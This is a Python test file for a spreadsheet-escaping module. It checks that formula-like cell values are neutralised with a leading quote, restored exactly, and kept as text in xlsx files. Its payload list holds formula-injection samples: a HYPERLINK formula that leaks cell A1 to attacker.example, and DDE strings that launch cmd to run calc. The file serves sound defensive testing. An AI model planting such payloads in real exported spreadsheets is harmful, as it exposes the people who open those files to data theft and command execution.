"""Formula-looking cells made inert for spreadsheets, and restored exactly on the way back."""

import pytest

from stancemap.corpus.spreadsheet import is_formula_like, neutralise, restore, set_text_cell

PAYLOADS = ['=HYPERLINK("http://attacker.example/?leak="&A1,"click")', "=cmd|' /C calc'!A0",
            "+SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payloads_get_a_quote_and_come_back(payload):
    assert is_formula_like(payload)
    cell = neutralise(payload)
    assert cell == "'" + payload and not is_formula_like(cell)
    assert restore(cell) == payload


@pytest.mark.parametrize("text", ["plain text", "'quoted already", "'=looks escaped", "''=two quotes",
                                  "", "1+1", "a=b", "'", "café — 中国"])
def test_round_trip_is_exact_for_any_text(text):
    assert restore(neutralise(text)) == text
    assert not is_formula_like(neutralise(text))


def test_non_text_passes_unchanged():
    for value in (None, 1, -2.5, True):
        assert neutralise(value) is value and restore(value) is value


def test_xlsx_cells_stay_text():
    from openpyxl import Workbook

    sheet = Workbook().active
    for row, payload in enumerate(PAYLOADS, start=1):
        set_text_cell(sheet.cell(row, 1), payload)
        cell = sheet.cell(row, 1)
        assert cell.data_type == "s" and cell.value == payload and cell.quotePrefix
    set_text_cell(sheet.cell(1, 2), 0.5)
    assert sheet.cell(1, 2).data_type == "n"
